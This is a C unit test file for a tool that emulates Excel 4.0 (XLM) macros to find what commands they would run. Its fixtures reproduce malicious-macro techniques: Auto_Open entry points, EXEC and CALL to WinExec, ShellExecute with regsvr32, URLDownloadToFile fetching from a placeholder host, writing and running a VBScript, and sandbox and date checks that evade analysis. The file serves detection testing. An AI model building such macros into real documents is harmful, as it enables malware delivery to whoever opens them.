/* SPDX-License-Identifier: Apache-2.0 */
/* Macros by hand: what they do, and how certain that is. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "base/buf.h"
#include "tests/table.h"
#include "unmask/harness.h"
#include "unmask/unmask.h"

#define M "sheet M: macro\n"
#define S "sheet S: worksheet\n"
#define AUTO M "name Auto_Open: =M!$A$1\n"
#define HOLE "\xe2\x9f\x82"

enum certainty { KNOWN, CONDITIONAL, PARTIAL, NONE };

struct row {
    const char *name, *code;
    enum effect_kind kind;
    const char *argument, *want;
    enum certainty certainty;
};

#define RUNS(name, code, command) { name, code, EFFECT_RUN, "command", command, KNOWN }
#define RUNS_IF(name, code, command) { name, code, EFFECT_RUN, "command", command, CONDITIONAL }
#define MAY_RUN(name, code, command) { name, code, EFFECT_RUN, "command", command, PARTIAL }
#define NEVER(name, code) { name, code, EFFECT_RUN, "command", "", NONE }
/* The value of an expression, as text. */
#define GIVES(expression, text) { expression, AUTO "M!A1: =EXEC(" expression ")\n", EFFECT_RUN, "command", text, KNOWN }
#define UNSURE(expression, text) { expression, AUTO "M!A1: =EXEC(" expression ")\n", EFFECT_RUN, "command", text, PARTIAL }

static const struct row expressions[] = {
    /* operators: Excel, "Calculation operators and precedence" */
    GIVES("1+2*3", "7"),
    GIVES("(1+2)*3", "9"),
    GIVES("-2^2", "4"),
    GIVES("2^3^2", "64"),
    GIVES("10-4-3", "3"),
    GIVES("100/4/5", "5"),
    GIVES("50%", "0.5"),
    GIVES("--\"7\"+1", "8"),
    GIVES("1&2+3", "15"),
    GIVES("\"a\"&1/3", "a0.333333333333333"),
    GIVES("1/4&\"\"", "0.25"),
    GIVES("\"\"&1=1", "FALSE"),
    GIVES("(1=1)&\"\"", "TRUE"),
    GIVES("\"a\"=\"A\"", "TRUE"),
    GIVES("\"a\"<>\"b\"", "TRUE"),
    GIVES("\"2\">1", "TRUE"),
    GIVES("B9=0", "TRUE"),
    GIVES("B9=\"\"", "TRUE"),
    GIVES("TRUE+1", "2"),
    GIVES("\" 12 \"+1", "13"),
    GIVES("12345678901234&\"\"", "12345678901234"),
    GIVES("0.1+0.2&\"\"", "0.3"),
    GIVES("1E3&\"\"", "1000"),
    GIVES("-0.5&\"\"", "-0.5"),
    UNSURE("0.00001&\"\"", "1E-05"),
    /* texts */
    GIVES("CHAR(104)&CHAR(105.9)", "hi"),
    GIVES("UNICHAR(12354)", "\xe3\x81\x82"),
    GIVES("CODE(\"A\")", "65"),
    GIVES("MID(\"abcdef\",2,3)", "bcd"),
    GIVES("MID(\"abc\",9,3)&\"x\"", "x"),
    GIVES("LEFT(\"abc\")&LEFT(\"abc\",9)", "aabc"),
    GIVES("RIGHT(\"abc\",2)", "bc"),
    GIVES("LEN(\"abc\")", "3"),
    GIVES("LOWER(\"AbC\")&UPPER(\"AbC\")&PROPER(\"aB cD\")", "abcABCAb Cd"),
    GIVES("REPT(\"ab\",3)", "ababab"),
    GIVES("SUBSTITUTE(\"a-b-c\",\"-\",\"+\")", "a+b+c"),
    GIVES("SUBSTITUTE(\"a-b-c\",\"-\",\"+\",2)", "a-b+c"),
    GIVES("REPLACE(\"abcdef\",2,3,\"X\")", "aXef"),
    GIVES("SEARCH(\"C\",\"abc\")&FIND(\"c\",\"abc\",2)", "33"),
    GIVES("TRIM(\"  a   b \")", "a b"),
    GIVES("CONCATENATE(\"a\",1,TRUE,B9)", "a1TRUE"),
    GIVES("TEXT(1.5,\"0.00\")&TEXT(7,\"0\")&TEXT(\"x\",\"@\")", "1.507x"),
    GIVES("T(5)&T(\"x\")&N(\"x\")&N(5)", "x05"),
    GIVES("EXACT(\"a\",\"A\")", "FALSE"),
    GIVES("VALUE(\"12\")+1", "13"),
    UNSURE("CHAR(200)", "\xc3\x88"),
    UNSURE("\"a\"&RAND()&\"b\"", "a" HOLE "b"),
    UNSURE("MID(\"ab\"&RAND(),1,9)", "ab" HOLE),
    GIVES("MID(\"ab\"&RAND(),1,2)", "ab"),
    GIVES("RIGHT(RAND()&\"ab\",2)", "ab"),
    GIVES("FIND(\"b\",\"ab\"&RAND())", "2"),
    UNSURE("LEN(\"ab\"&RAND())", HOLE),
    UNSURE("UPPER(\"a\"&RAND()&\"b\")", "A" HOLE "B"),
    /* numbers */
    GIVES("INT(-1.5)&TRUNC(-1.5)&INT(-0.00001)", "-2-1-1"),
    GIVES("INT((0.1+0.7)*10)&CHAR(64.99999999999999)", "8A"),
    GIVES("-(0)&\"\"", "0"),
    GIVES("AND(1,\"TRUE\")&FLOOR(0,0)", "TRUE0"),
    UNSURE("AND(\"1\",1)", HOLE),
    UNSURE("A7 B7", HOLE),
    UNSURE("MATCH(2,{1,2,3})", "2"),
    UNSURE("MATCH(\"b*\",{\"a\",\"bc\"},0)", HOLE),
    GIVES("MOD(-3,2)&MOD(7,-3)", "1-2"),
    GIVES("ROUND(2.5,0)&ROUND(-2.5,0)&ROUND(1.005,2)", "3-31.01"),
    GIVES("ROUNDUP(1.1,0)&ROUNDDOWN(1.9,0)&QUOTIENT(7,2)", "213"),
    GIVES("SUM(1,2,\"3\")&PRODUCT(2,3)", "66"),
    GIVES("MAX(1,5,3)&MIN(4,2)&ABS(-3)&SQRT(16)", "5234"),
    GIVES("POWER(2,10)&SIGN(-4)", "1024-1"),
    GIVES("BITXOR(5,3)&BITAND(5,3)&HEX2DEC(\"ff\")", "61255"),
    GIVES("AND(TRUE,1)&OR(FALSE,0)&NOT(FALSE)", "TRUEFALSETRUE"),
    GIVES("OR(TRUE,RAND()>1)", "TRUE"),
    GIVES("ISNUMBER(1)&ISTEXT(1)&ISERROR(1/0)&ISBLANK(B9)", "TRUEFALSETRUETRUE"),
    GIVES("IFERROR(1/0,\"x\")", "x"),
    GIVES("YEAR(43831)&MONTH(43831)&DAY(43831)", "202011"),
    GIVES("DATE(2020,1,1)&\"\"", "43831"),
    GIVES("DATE(2020,14,0)&\"\"", "44227"),
    /* look-ups */
    GIVES("INDEX({\"a\",\"b\";\"c\",\"d\"},2,1)", "c"),
    GIVES("INDEX({5,6,7},2)", "6"),
    GIVES("CHOOSE(2,\"a\",\"b\",\"c\")", "b"),
    GIVES("HLOOKUP(2,{1,2,3;\"a\",\"b\",\"c\"},2,FALSE)", "b"),
    GIVES("MATCH(\"b\",{\"a\",\"b\"},0)", "2"),
    GIVES("ADDRESS(2,28)&ADDRESS(1,1,4)&ADDRESS(3,2,1,FALSE)", "$AB$2A1R3C2"),
    GIVES("ROWS(A1:A9)&COLUMNS(A1:C1)&ROW(B7)&COLUMN(C1)", "9373"),
    GIVES("IF(1=2,\"a\",\"b\")", "b"),
    GIVES("GET.CELL(2,B7)&GET.CELL(3,B7)", "72"),
};

static const struct row macros[] = {
    RUNS("plain", AUTO "M!A1: =EXEC(\"calc\")\n", "calc"),
    RUNS("a tail behind the name of the entry", M "name Auto_OpenXq (hidden): =M!$A$1\nM!A1: =EXEC(\"calc\")\n", "calc"),
    RUNS("Auto_Close", M "name _xlnm.Auto_Close: =M!$A$1\nM!A1: =EXEC(\"calc\")\n", "calc"),
    RUNS("far below", AUTO "M!A1: 5\nM!A900000: =EXEC(\"calc\")\n", "calc"),
    RUNS("sheet in quotes", "sheet 'a ''b': macro\nname Auto_Open: ='a ''b'!$A$1\n'a ''b'!A1: =EXEC('a ''b'!B1)\n'a ''b'!B1: \"calc\"\n", "calc"),
    NEVER("behind HALT, once something came of it", AUTO "M!A1: =FILE.DELETE(\"x\")\nM!A2: =HALT()\nM!A3: =EXEC(\"x\")\n"),
    MAY_RUN("behind HALT", AUTO "M!A1: =HALT()\nM!A2: =EXEC(\"calc\")\n", "calc"),
    MAY_RUN("behind RETURN nothing", AUTO "M!A1: =RETURN()\nM!A3: =EXEC(\"y\")\n", "y"),
    /* flow */
    RUNS("GOTO", AUTO "M!A1: =GOTO(C5)\nM!A2: =EXEC(\"no\")\nM!C5: =EXEC(\"calc\")\n", "calc"),
    RUNS("RUN and back", AUTO "M!A1: =RUN(C5)\nM!A2: =EXEC(B1)\nM!C5: =SET.VALUE(B1,\"calc\")\nM!C6: =RETURN()\n", "calc"),
    RUNS("RUN of a text", AUTO "M!A1: =RUN(\"M!R5C3\")\nM!C5: =EXEC(\"calc\")\n", "calc"),
    RUNS("RUN of a name", AUTO "name go: =M!$C$5\nM!A1: =RUN(\"go\")\nM!C5: =EXEC(\"calc\")\n", "calc"),
    RUNS("reference as function", AUTO "M!A1: =C5()\nM!C5: =EXEC(\"calc\")\n", "calc"),
    RUNS("function with an argument", AUTO "name f: =M!$C$1\nM!A1: =EXEC(f(\"al\"))\nM!C1: =ARGUMENT(\"x\")\nM!C2: =RETURN(\"c\"&x&\"c\")\n", "calc"),
    RUNS("IF met", AUTO "M!A1: =IF(1=1,GOTO(C5),HALT())\nM!C5: =EXEC(\"calc\")\n", "calc"),
    RUNS("block IF", AUTO "M!A1: =IF(1=2)\nM!A2: =EXEC(\"no\")\nM!A3: =ELSE()\nM!A4: =EXEC(\"calc\")\nM!A5: =END.IF()\n", "calc"),
    RUNS("block ELSE.IF", AUTO "M!A1: =IF(1=2)\nM!A2: =EXEC(\"no\")\nM!A3: =ELSE.IF(2=2)\nM!A4: =EXEC(\"calc\")\nM!A5: =ELSE()\nM!A6: =EXEC(\"no\")\nM!A7: =END.IF()\n", "calc"),
    RUNS("FOR", AUTO "M!A1: =FOR(\"i\",1,4)\nM!A2: =SET.VALUE(B1,B1&MID(\"calc\",i,1))\nM!A3: =NEXT()\nM!A4: =EXEC(B1)\n", "calc"),
    RUNS("FOR.CELL", AUTO "M!A1: =FOR.CELL(\"c\",D1:D2)\nM!A2: =SET.VALUE(B1,B1&CHAR(c))\nM!A3: =NEXT()\nM!A4: =EXEC(B1)\nM!D1: 104\nM!D2: 105\n", "hi"),
    RUNS("WHILE", AUTO "M!A1: =SET.VALUE(B2,1)\nM!A2: =WHILE(B2<5)\nM!A3: =SET.VALUE(B1,B1&MID(\"calc\",B2,1))\nM!A4: =SET.VALUE(B2,B2+1)\nM!A5: =NEXT()\nM!A6: =EXEC(B1)\n", "calc"),
    RUNS("loop that is never entered", AUTO "M!A1: =WHILE(FALSE)\nM!A2: =EXEC(\"no\")\nM!A3: =NEXT()\nM!A4: =EXEC(\"calc\")\n", "calc"),
    RUNS("loop by GOTO", AUTO "M!A1: =SET.VALUE(B2,B2+1)\nM!A2: =SET.VALUE(B1,B1&CHAR(B2+96))\nM!A3: =IF(B2<3,GOTO(A1))\nM!A4: =EXEC(B1)\n", "abc"),
    RUNS("later", AUTO "M!A1: =ON.TIME(NOW()+\"00:00:02\",\"M!R9C3\")\nM!A2: =HALT()\nM!C9: =EXEC(\"calc\")\n", "calc"),
    /* side effects */
    RUNS("inside comparisons", AUTO "M!A1: =NOW()=NOW()=FORMULA(\"ca\"&\"lc\",B1)=NOW()\nM!A2: =EXEC(B1)\n", "calc"),
    RUNS("inside an argument", AUTO "M!A1: =AND(SET.NAME(\"x\",\"calc\"),EXEC(x))\n", "calc"),
    RUNS("inside arithmetic", AUTO "M!A1: =1+EXEC(\"calc\")*0\n", "calc"),
    /* self-writing */
    RUNS("formula as text", AUTO "M!A1: =FORMULA(\"=EXEC(\"\"calc\"\")\",A3)\n", "calc"),
    RUNS("with R1C1 references", AUTO "M!A1: =FORMULA(\"=EXEC(R[-1]C[1])\",B3)\nM!A2: =GOTO(B3)\nM!C2: \"calc\"\n", "calc"),
    RUNS("FORMULA.FILL", AUTO "M!A1: =FORMULA.FILL(\"calc\",B1:B3)\nM!A2: =EXEC(B3)\n", "calc"),
    RUNS("a formula that writes one", AUTO "M!A1: =FORMULA(\"=FORMULA(\"\"=EXEC(\"\"\"\"calc\"\"\"\")\"\",R3C1)\",A2)\n", "calc"),
    RUNS("written over while it runs", AUTO "M!A1: =FORMULA(\"=HALT()\",A1)\nM!A2: =EXEC(\"calc\")\n", "calc"),
    RUNS("by SELECT", AUTO "M!A1: =SELECT(M!B1)\nM!A2: =FORMULA(\"calc\")\nM!A3: =EXEC(ACTIVE.CELL())\n", "calc"),
    RUNS("COPY", AUTO "M!A1: =COPY(C1,B1)\nM!A2: =EXEC(B1)\nM!C1: \"calc\"\n", "calc"),
    /* names */
    RUNS("name with a text", AUTO "name x: =\"calc\"\nM!A1: =EXEC(x)\n", "calc"),
    RUNS("SET.NAME", AUTO "M!A1: =SET.NAME(\"x\",\"ca\")\nM!A2: =EXEC(x&\"lc\")\n", "calc"),
    RUNS("name=value", AUTO "M!A1: =x=\"calc\"\nM!A2: =EXEC(x)\n", "calc"),
    RUNS("DEFINE.NAME", AUTO "M!A1: =DEFINE.NAME(\"x\",\"=M!R5C2\")\nM!A2: =EXEC(x)\nM!B5: \"calc\"\n", "calc"),
    /* references */
    RUNS("INDIRECT", AUTO "M!A1: =EXEC(INDIRECT(\"B\"&7)&INDIRECT(\"R8C2\",FALSE))\nM!B7: \"ca\"\nM!B8: \"lc\"\n", "calc"),
    RUNS("OFFSET", AUTO "M!A1: =EXEC(OFFSET(A1,6,1))\nM!B7: \"calc\"\n", "calc"),
    RUNS("INDEX of cells", AUTO "M!A1: =EXEC(INDEX(B1:C2,2,1)&VLOOKUP(\"k\",B1:C2,2,FALSE))\nM!B1: \"k\"\nM!C1: \"lc\"\nM!B2: \"ca\"\n", "calc"),
    RUNS("from a worksheet", S AUTO "S!B2: =\"ca\"&S!B3\nS!B3: \"lc\"\nM!A1: =EXEC(S!B2)\n", "calc"),
    RUNS("nothing, through a formula, is 0", AUTO "M!A1: =EXEC(B1&\"x\")\nM!B1: =C1\n", "0x"),
    RUNS("a chain of cells", AUTO "M!A1: =EXEC(B1)\nM!B1: =B2&\"c\"\nM!B2: =B3&\"l\"\nM!B3: \"ca\"\n", "calc"),
    RUNS("the value of a formula that ran", AUTO "M!A1: =\"ca\"&\"lc\"\nM!A2: =EXEC(A1)\n", "calc"),
    /* people */
    RUNS("window large enough", AUTO "M!A1: =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE))\nM!A2: =IF(GET.WORKSPACE(19),,CLOSE(TRUE))\nM!A3: =EXEC(\"calc\")\n", "calc"),
    MAY_RUN("text of what a person's Excel says", AUTO "M!A1: =EXEC(GET.WORKSPACE(2)&\"x\")\n", "16.0x"),
    RUNS("row height", AUTO "format M!7: 17=9.95\nM!A1: =EXEC(CHAR(GET.CELL(17,B7)+100))\n", "n"),
    RUNS("font size and colour", AUTO "format M!B7: 19=4 24=14\nM!A1: =EXEC(CHAR(100+GET.CELL(19,B7)+GET.CELL(24,M!B7)))\n", "v"),
    MAY_RUN("what is usual", AUTO "M!A1: =EXEC(CHAR(100+GET.CELL(19,B7)))\n", "o"),
    /* not known */
    MAY_RUN("both branches, one", AUTO "M!A1: =IF(NOW()>5,EXEC(\"calc\"),EXEC(\"no\"))\n", "calc"),
    MAY_RUN("both branches, the other", AUTO "M!A1: =IF(NOW()>5,RETURN(),EXEC(\"calc\"))\n", "calc"),
    RUNS("both branches do it", AUTO "M!A1: =IF(TODAY()>5,ALERT(\"a\"),ALERT(\"b\"))\nM!A2: =EXEC(\"calc\")\n", "calc"),
    RUNS_IF("guarded by a date", AUTO "M!A1: =IF(TODAY()>5,HALT())\nM!A2: =EXEC(\"calc\")\n", "calc"),
    RUNS_IF("guarded by the other answer", AUTO "M!A1: =IF(TODAY()>5,,CLOSE(FALSE))\nM!A2: =EXEC(\"calc\")\n", "calc"),
    RUNS_IF("guarded by a jump", AUTO "M!A1: =IF(TODAY()>5,GOTO(C1))\nM!A2: =EXEC(\"calc\")\nM!C1: =CLOSE(FALSE)\n", "calc"),
    MAY_RUN("behind one that may return", AUTO "M!A1: =IF(TODAY()>5,RETURN())\nM!A2: =EXEC(\"calc\")\n", "calc"),
    RUNS("behind a loop that waits", AUTO "M!A1: =WHILE(ISERROR(FILES(\"C:\\a\")))\nM!A2: =WAIT(NOW()+1)\nM!A3: =NEXT()\nM!A4: =EXEC(\"calc\")\n", "calc"),
    MAY_RUN("in a loop that may not be entered", AUTO "M!A1: =WHILE(RAND()<1)\nM!A2: =EXEC(\"calc\")\nM!A3: =NEXT()\n", "calc"),
    MAY_RUN("written in such a loop", AUTO "M!A1: =WHILE(RAND()<1)\nM!A2: =SET.VALUE(B1,\"calc\")\nM!A3: =NEXT()\nM!A4: =EXEC(B1)\n", "calc"),
    MAY_RUN("written in a branch", AUTO "M!A1: =IF(TODAY()>5,SET.VALUE(B1,\"calc\"),SET.VALUE(B1,\"no\"))\nM!A2: =EXEC(B1)\n", "calc"),
    MAY_RUN("hole in a formula that was written", AUTO "M!A1: =FORMULA(\"=EXEC(\"\"a\"&RAND()&\"b\"\")\",A2)\n", "a" HOLE "b"),
    MAY_RUN("not reached", M "M!A1: =EXEC(\"calc\")\n", "calc"),
    MAY_RUN("entry that leads nowhere", M "name Auto_Open: =#REF!\nM!Q5: =EXEC(\"calc\")\n", "calc"),
    /* what Excel calculated last */
    MAY_RUN("in place of what is not known", AUTO "M!A1: =EXEC(B1)\nM!B1: =GET.NOTE(C1)\t\"calc\"\n", "calc"),
    RUNS("the same", AUTO "M!A1: =EXEC(B1)\nM!B1: =\"ca\"&\"lc\"\t\"calc\"\n", "calc"),
    MAY_RUN("another", AUTO "M!A1: =EXEC(B1)\nM!B1: =\"ca\"&\"lc\"\t\"notepad\"\n", "calc"),
    RUNS("another on a worksheet", S AUTO "M!A1: =EXEC(S!B1)\nS!B1: =\"ca\"&\"lc\"\t\"notepad\"\n", "calc"),
    RUNS("the answer of a command", AUTO "M!A1: =EXEC(B1)\tFALSE\nM!B1: =CHAR(97)\tFALSE\n", "a"),
    /* the day */
    RUNS_IF("locked with the day", AUTO "M!A1: =SET.VALUE(B1,DAY(NOW())+200)\nM!A2: =FORMULA(IF(B1=217,CHAR(B1-156)&\"EXEC(\"\"calc\"\")\",CHAR(300)),A3)\n", "calc"),
    /* libraries */
    RUNS("ShellExecute", AUTO "M!A1: =CALL(\"Shell\"&\"32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"regsvr32\",\"-s ..\\a.ocx\",0,5)\n", "regsvr32 -s ..\\a.ocx"),
    RUNS("WinExec", AUTO "M!A1: =CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)\n", "calc"),
    { "download", AUTO "M!A1: =CALL(\"ur\"&\"lmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"hTTp://example.invalid/a\",\"..\\a\",0,0)\n", EFFECT_DOWNLOAD, "url", "http://example.invalid/a", KNOWN },
    { "its path", AUTO "M!A1: =CALL(\"urlmon\",\"URLDownloadToFileW\",\"JJCCJJ\",0,\"http://example.invalid/a\",\"..\\a\",0,0)\n", EFFECT_DOWNLOAD, "path", "..\\a", KNOWN },
    { "alias", AUTO "M!A1: =REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Bela\",,1,9)\nM!A2: =bela(0,\"http://example.invalid/a\",\"..\\a\",0,0)\n", EFFECT_DOWNLOAD, "path", "..\\a", KNOWN },
    { "number of REGISTER", AUTO "M!A1: =REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")\nM!A2: =CALL(A1,0,\"http://example.invalid/a\",\"..\\a\",0,0)\n", EFFECT_DOWNLOAD, "path", "..\\a", KNOWN },
    { "directory", AUTO "M!A1: =CALL(\"Kernel32\",\"CreateDirectoryA\",\"JCJ\",\"C:\\a\",0)\n", EFFECT_WRITE, "directory", "C:\\a", KNOWN },
    { "any other function", AUTO "M!A1: =CALL(\"kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,5,4096,64)\n", EFFECT_LOAD, "function", "VirtualAlloc", KNOWN },
    /* files */
    { "written file", AUTO "M!A1: =FOPEN(\"C:\\a.vbs\",3)\nM!A2: =FWRITELN(A1,\"x = 1\")\nM!A3: =FWRITE(A1,\"y\")\nM!A4: =FCLOSE(A1)\n", EFFECT_WRITE, "value", "x = 1\r\ny", KNOWN },
    { "deleted file", AUTO "M!A1: =FILE.DELETE(\"C:\\a\")\n", EFFECT_WRITE, "path", "C:\\a", KNOWN },
    { "message", AUTO "M!A1: =ALERT(\"hello\",2)\n", EFFECT_MESSAGE, "text", "hello", KNOWN },
    { "question", AUTO "M!A1: =GET.WORKSPACE(19)\n", EFFECT_QUERY, "query", "19", KNOWN },
    { "DDE", AUTO "M!A1: =INITIATE(\"cmd\",\"/c calc\")\n", EFFECT_RUN, "program", "cmd", KNOWN },
    /* damage */
    RUNS("open brackets", AUTO "M!A1: =EXEC(((\"calc\"\n", "calc"),
    RUNS("open text", AUTO "M!A1: =EXEC(\"calc\n", "calc"),
    NEVER("nothing", ""),
    NEVER("no sheets", "M!A1: =EXEC(\"x\")\n"),
    NEVER("half lines", "sheet M: macro\nM!A1\nM!: =EXEC(\"x\")\n'M!A1: =EXEC(\"x\")\nname\nname x\nsheet\nformat\nformat M!A1\n"),
    NEVER("error for a command", AUTO "M!A1: =EXEC(1/0)\n"),
    NEVER("signs alone", AUTO "M!A1: =&&&+-*/^%:,)(\n"),
    MAY_RUN("sheet of another book", AUTO "M!A1: =EXEC('[other.xls]X'!A1&\"b\")\n", HOLE "b"),
    MAY_RUN("refers to itself", AUTO "M!A1: =EXEC(B1)\nM!B1: =B1&\"b\"\n", HOLE "b"),
    NEVER("in a circle", AUTO "M!A1: =GOTO(A1)\n"),
    NEVER("without end", AUTO "M!A1: =WHILE(TRUE)\nM!A2: =SET.VALUE(B1,B1+1)\nM!A3: =NEXT()\n"),
    NEVER("calls itself", AUTO "name f: =M!$A$1\nM!A1: =1+f()\n"),
};

static const struct effect *effect_with(const struct tally *t, const struct row *row)
{
    const struct effect *e;
    for (size_t i = 0; (e = tally_effect(t, row->kind, i)) != NULL; i++)
        if (slice_is(tally_argument(e, row->argument), row->want))
            return e;
    return NULL;
}

static void check(struct table *t, const struct row *row)
{
    struct tally *run = tally_unmasked("xlm", NULL, slice_of(row->code));
    tally_check(run);
    const struct effect *e = row->certainty == NONE ? tally_effect(run, row->kind, 0) : effect_with(run, row);
    if (row->certainty == NONE ? e != NULL : e == NULL || !tally_certainty(e, row->certainty == KNOWN, row->certainty == CONDITIONAL)) {
        const struct effect *first = tally_effect(run, row->kind, 0);
        slice got = tally_argument(first, row->argument);
        table_wrong(t, row->name, "%s \"%.*s\"", first ? tally_certain(first) ? "known" : "partial" : "nothing", SLICE_FMT(got));
    }
    tally_drop(&run);
}

static void values(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, expressions)
        check(&t, row);
}

static void techniques(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, macros)
        check(&t, row);
}

/* What another language reads is handed on, and its effects come behind those of the macro. */
static void handed_on(void **state)
{
    (void)state;
    struct tally *t = tally_unmasked("xlm", NULL, SLICE_LIT(AUTO "M!A1: =FOPEN(\"C:\\a.vbs\",3)\nM!A2: =FWRITELN(A1,\"x = 1\")\nM!A3: =EXEC(\"wscript C:\\a.vbs\")\n"));
    tally_check(t);
    uint32_t command = tally_part_typed(t, "command"), script = tally_part_typed(t, "vbscript");
    assert_int_not_equal(command, NO_ID);
    assert_int_not_equal(script, NO_ID);
    assert_true(slice_is(tally_view(t, FACT_SCRIPT_CODE, command), "wscript C:\\a.vbs"));
    assert_true(slice_is(tally_view(t, FACT_SCRIPT_CODE, script), "x = 1\r\n"));
    const struct effect *e = tally_effect(t, EFFECT_WRITE, 0);
    assert_non_null(e);
    assert_int_equal(e->n_via, 2);
    assert_true(slice_is(e->via[0], "Auto_Open"));
    assert_true(slice_is(e->via[1], "M!A1"));
    tally_drop(&t);
}

/* Where a command came from: the cells its pieces stand in, and the cells that called each other. */
static void ways_and_origins(void **state)
{
    (void)state;
    struct tally *t = tally_unmasked("xlm", NULL, SLICE_LIT(AUTO "M!A1: =RUN(C1)\nM!B1: \"ca\"\nM!B2: \"lc\"\nM!C1: =EXEC(B1&B2)\n"));
    tally_check(t);
    const struct effect *e = tally_effect(t, EFFECT_RUN, 0);
    assert_non_null(e);
    assert_int_equal(e->n_via, 3);
    assert_true(slice_is(e->via[1], "M!A1"));
    assert_true(slice_is(e->via[2], "M!C1"));
    assert_int_equal(e->n_origins, 1); /* neighbouring lines are one */
    assert_int_equal(e->origins[0].line, 4);
    tally_drop(&t);
}

/* Formulas of other languages: in the workbook that came before them. */
static enum walk_end book_and_formula(struct walk *w, const struct body *body)
{
    static const char formula[] = "=RUN(M!$C$5)";
    struct walk sub;
    struct child c = { .how = HOW_UNMASK, .at = NOWHERE, .body = body };
    walk_type(w, "xlm-macro");
    walk_event(w, EVENT_MACRO);
    walk_view(w, FACT_XLM_CODE, body->all, range_of(0, body->all.len));
    if (!walk_begin(w, &c, &sub))
        return WALK_LIMIT;
    walk_type(&sub, "xlm-formula");
    walk_view(&sub, FACT_SCRIPT_CODE, slice_of(formula), range_of(0, sizeof formula - 1));
    walk_finish(&sub, WALK_WHOLE);
    return WALK_WHOLE;
}

static struct unmask languages;
static void part_begins(void *host, struct walk *w) { (void)host, unmask_part(&languages, w); }
static void part_ends(void *host, struct walk *w, enum walk_end e) { (void)host, unmask_end(&languages, w, e); }
static void fact_comes(void *host, struct walk *w, struct fact *f) { (void)host, unmask_fact(&languages, w, f); }
static void view_comes(void *host, struct walk *w, enum fact_id id, slice utf8, struct range at, uint32_t event)
{
    (void)host, (void)event;
    unmask_view(&languages, w, id, utf8, at);
}

static void formulas_of_others(void **state)
{
    (void)state;
    static const struct format both = { .name = "xlm-macro", .walk = book_and_formula };
    struct walk_hooks hooks = { NULL, part_begins, part_ends, view_comes, fact_comes, NULL };
    struct tally_options o = { .only = &both, .hooks = &hooks };
    languages = (struct unmask){ 0 };
    struct tally *t = tally_run(&o, SLICE_LIT(M "M!A1: =FILE.DELETE(\"C:\\a\")\nM!A2: =HALT()\nM!C5: =EXEC(\"calc\")\n"));
    tally_check(t);
    const struct effect *e = NULL;
    for (size_t i = 0; (e = tally_effect(t, EFFECT_RUN, i)) != NULL && !tally_certain(e); i++)
        ;
    assert_non_null(e); /* not certain in the workbook, where nothing calls it */
    assert_true(slice_is(tally_argument(e, "command"), "calc"));
    tally_drop(&t);
}

/* Shapes that would cost more than they are long: each ends soon and within the memory. */
enum flood { DEEP, DOUBLING, CHAIN, JOINS, NAMES, WRITES, REPEATED, CHOICES, ARRAYS, CALLS, FLOODS };

static void flood(struct buf *b, enum flood shape)
{
    buf_text(b, AUTO);
    if (shape == DEEP || shape == JOINS || shape == ARRAYS)
        buf_text(b, "M!A1: =EXEC(");
    for (int i = 0; i < 5000; i++) {
        if (shape == DEEP)
            buf_text(b, "(\"a\"&");
        else if (shape == DOUBLING)
            buf_format(b, "M!A%d: =A%d&A%d&\"ab\"\n", i + 2, i + 1, i + 1);
        else if (shape == CHAIN)
            buf_format(b, "M!A%d: =EXEC(B%d)\nM!B%d: =B%d&\"a\"\n", i + 1, i + 1, i + 1, i + 2);
        else if (shape == JOINS)
            buf_text(b, "\"abcd\"&");
        else if (shape == NAMES)
            buf_format(b, "name n%d: =n%d&n%d\nM!A%d: =EXEC(n%d)\n", i, i + 1, i + 2, i + 1, i);
        else if (shape == WRITES)
            buf_format(b, "M!A%d: =FORMULA.FILL(\"=FORMULA.FILL(\"\"x\"\",A1:Z9000)\",A%d:Z9999)\n", i + 1, i + 3);
        else if (shape == REPEATED)
            buf_format(b, "M!A%d: =EXEC(REPT(REPT(\"a\",1000)&%d,32))\n", i + 1, i);
        else if (shape == CHOICES)
            buf_format(b, "M!A%d: =IF(RAND()>%d,GOTO(A%d),EXEC(%d))\n", i + 1, i, i / 2 + 1, i);
        else if (shape == ARRAYS)
            buf_text(b, "SUM({1,2;3,4},A1:XFD1048576)+");
        else
            buf_format(b, "M!A%d: =A%d()+A%d()+A1()\n", i + 1, i + 2, i + 3);
    }
}

static void floods(void **state)
{
    (void)state;
    for (int shape = 0; shape < FLOODS; shape++) {
        struct buf b = buf_new(4 << 20);
        flood(&b, (enum flood)shape);
        struct tally *t = tally_unmasked("xlm", NULL, buf_slice(&b));
        tally_check(t);
        assert_false(arena_full(t->mem));
        tally_drop(&t);
        buf_drop(&b);
    }
}

static const char busy[] = AUTO S "name x: =M!$C$1\nformat M!7: 17=9.95\nM!A1: =FORMULA(\"=EXEC(\"\"a\"&RAND()&\"\"\")\",A2)\n"
                           "M!A3: =IF(NOW()>1,x(1),SET.NAME(\"y\",{1,2}))\nM!A4: =REGISTER(\"a\",\"b\",\"c\",\"d\")\nM!A5: =d(SUBSTITUTE(UPPER(S!A1),\"A\",\"b\"))\n"
                           "M!A6: =FWRITE(FOPEN(\"a.vbs\",3),\"x\")\nM!A7: =EXEC(\"a.vbs\")\nM!C1: =ARGUMENT(\"q\")\nM!C2: =RETURN(q)\nS!A1: =\"abc\"\t\"abc\"\n";

static void memory_fails_anywhere(void **state)
{
    (void)state;
    tally_starved("xlm", slice_of(busy), 260);
}

static void every_beginning(void **state)
{
    (void)state;
    tally_beginnings("xlm", slice_of(busy));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(values), cmocka_unit_test(techniques), cmocka_unit_test(handed_on), cmocka_unit_test(ways_and_origins), cmocka_unit_test(formulas_of_others),      cmocka_unit_test(floods),
        cmocka_unit_test(memory_fails_anywhere), cmocka_unit_test(every_beginning),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
